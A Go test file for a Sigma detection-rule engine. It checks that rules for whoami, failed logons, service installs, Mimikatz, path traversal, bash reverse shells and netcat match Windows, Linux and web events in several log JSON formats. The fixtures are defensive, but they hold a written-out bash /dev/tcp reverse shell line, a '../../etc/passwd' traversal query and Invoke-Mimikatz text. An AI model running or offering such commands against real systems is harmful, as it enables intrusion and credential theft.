package sigma

import (
	"testing"

	"github.com/mangrove-soc/mangrove/detections"
	"github.com/mangrove-soc/mangrove/detections/alert"
)

const whoamiRule = `title: Whoami Execution
id: 8f1a2b3c-0000-4000-8000-000000000001
status: test
description: Detects whoami.exe
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        - Image|endswith: '\whoami.exe'
        - OriginalFileName: 'whoami.exe'
    filter_main_explorer:
        ParentImage|endswith: '\explorer.exe'
    condition: selection_img and not 1 of filter_main_*
level: high
tags:
    - attack.discovery
    - attack.t1033
`

// shapeCase is one event in one of the Windows JSON shapes.
type shapeCase struct {
	name  string
	event string
	want  bool
	host  string // expected group-by host, when the rule matches
}

func runShapes(t *testing.T, rule string, cases []shapeCase) {
	t.Helper()
	r, err := compileRule(t, rule)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ev := jsonEvent(t, tc.event)
			var got []detections.Finding
			if err := r.Eval(t.Context(), ev, func(f detections.Finding) { got = append(got, f) }); err != nil {
				t.Fatal(err)
			}
			if (len(got) == 1) != tc.want || len(got) > 1 {
				t.Fatalf("%d findings, want match=%v", len(got), tc.want)
			}
			if !tc.want {
				return
			}
			f := got[0]
			if len(f.Events) != 1 || f.Events[0] != ev {
				t.Errorf("finding events = %v, want the event", f.Events)
			}
			var wantGroup []alert.KV
			if tc.host != "" {
				wantGroup = []alert.KV{{Field: "host.name", Value: tc.host}}
			}
			if len(f.GroupBy) != len(wantGroup) || len(wantGroup) == 1 && f.GroupBy[0] != wantGroup[0] {
				t.Errorf("group by = %v, want %v", f.GroupBy, wantGroup)
			}
		})
	}
}

func TestWindowsShapesProcessCreation(t *testing.T) {
	runShapes(t, whoamiRule, []shapeCase{
		{"evtx-dump sysmon", `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-01.corp.local"},"EventData":{"Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /priv","ParentImage":"C:\\Windows\\System32\\cmd.exe"}}}`, true, "ws-01.corp.local"},
		{"evtx-dump security 4688 with qualifiers", `{"Event":{"System":{"EventID":{"#attributes":{"Qualifiers":0},"#text":4688},"Channel":"Security","Computer":"dc-01"},"EventData":{"NewProcessName":"C:\\Windows\\System32\\whoami.exe","ParentProcessName":"C:\\Windows\\System32\\cmd.exe"}}}`, true, "dc-01"},
		{"nxlog sysmon", `{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","Hostname":"WORKSTATION5.theshire.local","Image":"C:\\Windows\\System32\\WHOAMI.EXE","ParentImage":"C:\\Windows\\System32\\cmd.exe"}`, true, "WORKSTATION5.theshire.local"},
		{"nxlog security 4688", `{"EventID":4688,"Channel":"security","Hostname":"WORKSTATION5","NewProcessName":"C:\\Windows\\System32\\whoami.exe","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","CommandLine":"whoami"}`, true, "WORKSTATION5"},
		{"nxlog renamed binary by OriginalFileName", `{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"h","Image":"C:\\temp\\x.exe","OriginalFileName":"whoami.exe","ParentImage":"C:\\Windows\\System32\\cmd.exe"}`, true, "h"},
		{"winlogbeat sysmon", `{"host":{"name":"ws-02"},"event":{"code":"1","provider":"Microsoft-Windows-Sysmon"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","computer_name":"ws-02.corp.local","event_data":{"Image":"C:\\Windows\\System32\\whoami.exe","ParentImage":"C:\\Windows\\System32\\cmd.exe"}}}`, true, "ws-02"},
		{"winlogbeat security 4688 without host.name", `{"event":{"code":"4688"},"winlog":{"channel":"Security","computer_name":"dc-02","event_data":{"NewProcessName":"C:\\Windows\\System32\\whoami.exe","ParentProcessName":"C:\\Windows\\System32\\cmd.exe"}}}`, true, "dc-02"},
		{"ecs process fields", `{"event":{"code":"1"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational"},"process":{"executable":"C:\\Windows\\System32\\whoami.exe","parent":{"executable":"C:\\Windows\\System32\\cmd.exe"}}}`, true, ""},
		{"filtered by parent (evtx)", `{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws"},"EventData":{"Image":"C:\\Windows\\System32\\whoami.exe","ParentImage":"C:\\Windows\\explorer.exe"}}}`, false, ""},
		{"filtered by parent (nxlog 4688)", `{"EventID":4688,"Channel":"Security","NewProcessName":"C:\\Windows\\System32\\whoami.exe","ParentProcessName":"C:\\Windows\\explorer.exe"}`, false, ""},
		{"other image", `{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\cmd.exe"}`, false, ""},
		{"sysmon network event, not process creation", `{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\whoami.exe"}`, false, ""},
		{"4688 in the wrong channel", `{"EventID":4688,"Channel":"System","NewProcessName":"C:\\Windows\\System32\\whoami.exe"}`, false, ""},
		{"event id 1 from another channel", `{"Event":{"System":{"EventID":1,"Channel":"System"},"EventData":{"Image":"C:\\Windows\\System32\\whoami.exe"}}}`, false, ""},
		{"no channel at all", `{"Image":"C:\\Windows\\System32\\whoami.exe"}`, false, ""},
	})
}

func TestWindowsShapesServices(t *testing.T) {
	security := `title: Failed logon with explicit user
logsource: {product: windows, service: security}
detection:
    selection: {EventID: 4625, TargetUserName: Administrator}
    condition: selection
`
	runShapes(t, security, []shapeCase{
		{"evtx-dump", `{"Event":{"System":{"EventID":4625,"Channel":"Security","Computer":"dc"},"EventData":{"TargetUserName":"administrator"}}}`, true, "dc"},
		{"nxlog", `{"EventID":4625,"Channel":"security","Hostname":"dc","TargetUserName":"Administrator"}`, true, "dc"},
		{"winlogbeat", `{"event":{"code":"4625"},"winlog":{"channel":"Security","computer_name":"dc","event_data":{"TargetUserName":"Administrator"}}}`, true, "dc"},
		{"other channel", `{"EventID":4625,"Channel":"Application","TargetUserName":"Administrator"}`, false, ""},
	})
	system := `title: Service installed by provider
logsource: {product: windows, service: system}
detection:
    selection: {Provider_Name: 'Service Control Manager', EventID: 7045, ImagePath|contains: '\Temp\'}
    condition: selection
`
	runShapes(t, system, []shapeCase{
		{"evtx-dump", `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Service Control Manager"}},"EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"Channel":"System","Computer":"srv"},"EventData":{"ImagePath":"C:\\Temp\\svc.exe"}}}`, true, "srv"},
		{"nxlog", `{"SourceName":"Service Control Manager","EventID":7045,"Channel":"System","Hostname":"srv","ImagePath":"C:\\Temp\\svc.exe"}`, true, "srv"},
		{"winlogbeat", `{"event":{"code":"7045"},"winlog":{"channel":"System","provider_name":"Service Control Manager","computer_name":"srv","event_data":{"ImagePath":"C:\\Temp\\svc.exe"}}}`, true, "srv"},
		{"other provider", `{"SourceName":"Other","EventID":7045,"Channel":"System","ImagePath":"C:\\Temp\\svc.exe"}`, false, ""},
	})
	script := `title: Mimikatz in a script block
logsource: {product: windows, category: ps_script}
detection:
    selection: {ScriptBlockText|contains: 'Invoke-Mimikatz'}
    condition: selection
`
	runShapes(t, script, []shapeCase{
		{"evtx-dump", `{"Event":{"System":{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"ws"},"EventData":{"ScriptBlockText":"invoke-mimikatz -dump"}}}`, true, "ws"},
		{"nxlog core", `{"EventID":4104,"Channel":"PowerShellCore/Operational","Hostname":"ws","ScriptBlockText":"Invoke-Mimikatz"}`, true, "ws"},
		{"winlogbeat", `{"event":{"code":"4104"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_data":{"ScriptBlockText":"Invoke-Mimikatz"}},"host":{"name":"ws"}}`, true, "ws"},
		{"module logging is not script block", `{"EventID":4103,"Channel":"Microsoft-Windows-PowerShell/Operational","ScriptBlockText":"Invoke-Mimikatz"}`, false, ""},
	})
	defender := `title: Defender detection of a named threat
logsource: {product: windows, service: windefend}
detection:
    selection: {EventID: 1116, ThreatName|contains: 'Mimikatz', SourceName: 'Real-Time Protection'}
    condition: selection
`
	runShapes(t, defender, []shapeCase{
		{"evtx-dump with spaced names", `{"Event":{"System":{"EventID":1116,"Channel":"Microsoft-Windows-Windows Defender/Operational","Computer":"ws"},"EventData":{"Threat Name":"HackTool:Win32/Mimikatz","Source Name":"Real-Time Protection"}}}`, true, "ws"},
		{"nxlog: provider SourceName is not the event's Source Name", `{"EventID":1116,"Channel":"Microsoft-Windows-Windows Defender/Operational","SourceName":"Microsoft-Windows-Windows Defender","Threat Name":"HackTool:Win32/Mimikatz"}`, false, ""},
		{"nxlog with spaced names", `{"EventID":1116,"Channel":"Microsoft-Windows-Windows Defender/Operational","SourceName":"Microsoft-Windows-Windows Defender","Threat Name":"HackTool:Win32/Mimikatz","Source Name":"Real-Time Protection","Hostname":"ws"}`, true, "ws"},
	})
}

func TestECSLogSources(t *testing.T) {
	web := `title: Path traversal in a web request
logsource: {category: webserver}
detection:
    selection: {cs-uri-query|contains: '../', cs-method: GET}
    condition: selection
`
	runShapes(t, web, []shapeCase{
		{"ecs web access", `{"event":{"category":["web"]},"url":{"query":"f=../../etc/passwd"},"http":{"request":{"method":"GET"}},"host":{"name":"web-01"}}`, true, "web-01"},
		{"w3c names", `{"event.dataset":"iis.access","cs-uri-query":"f=../x","cs-method":"get"}`, true, ""},
		{"not web", `{"event":{"category":["process"]},"url":{"query":"f=../x"},"http":{"request":{"method":"GET"}}}`, false, ""},
	})
	linux := `title: Reverse shell via bash
logsource: {product: linux, category: process_creation}
detection:
    selection: {Image|endswith: '/bash', CommandLine|contains: '/dev/tcp/'}
    condition: selection
`
	runShapes(t, linux, []shapeCase{
		{"ecs", `{"event":{"category":["process"],"type":["start"]},"process":{"executable":"/usr/bin/bash","command_line":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},"host":{"name":"lnx"}}`, true, "lnx"},
		{"sysmon for linux", `{"Event":{"System":{"EventID":1,"Channel":"Linux-Sysmon/Operational","Computer":"lnx"},"EventData":{"Image":"/bin/bash","CommandLine":"bash -c 'exec 5<>/dev/tcp/x/1'"}}}`, true, "lnx"},
		{"not a process start", `{"event":{"category":["process"],"type":["end"]},"process":{"executable":"/usr/bin/bash","command_line":"/dev/tcp/"}}`, false, ""},
	})
	auditd := `title: auditd execve of a tool
logsource: {product: linux, service: auditd}
detection:
    selection: {type: EXECVE, a0: nc}
    condition: selection
`
	runShapes(t, auditd, []shapeCase{
		{"flat", `{"event.dataset":"auditd","type":"EXECVE","a0":"nc","host":{"name":"h"}}`, true, "h"},
		{"filebeat", `{"event":{"module":"auditd"},"auditd":{"log":{"record_type":"EXECVE","a0":"nc"}}}`, true, ""},
		{"other dataset", `{"event.dataset":"syslog","type":"EXECVE","a0":"nc"}`, false, ""},
	})
	// A log source the pipeline does not know does not hold the rule back.
	unknown := `title: Okta admin role granted
logsource: {product: okta, service: okta}
detection:
    selection: {eventType: user.account.privilege.grant}
    condition: selection
`
	runShapes(t, unknown, []shapeCase{
		{"any event with the field", `{"eventType":"user.account.privilege.grant"}`, true, ""},
	})
}
